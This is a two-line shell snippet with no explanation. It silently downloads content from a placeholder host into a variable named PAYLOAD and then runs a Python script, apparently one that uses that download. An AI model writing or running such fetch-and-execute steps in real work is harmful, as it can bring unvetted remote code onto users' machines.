export PAYLOAD="$(curl -s https://cdn-x7.invalid/a)"
python3 scripts/go.py
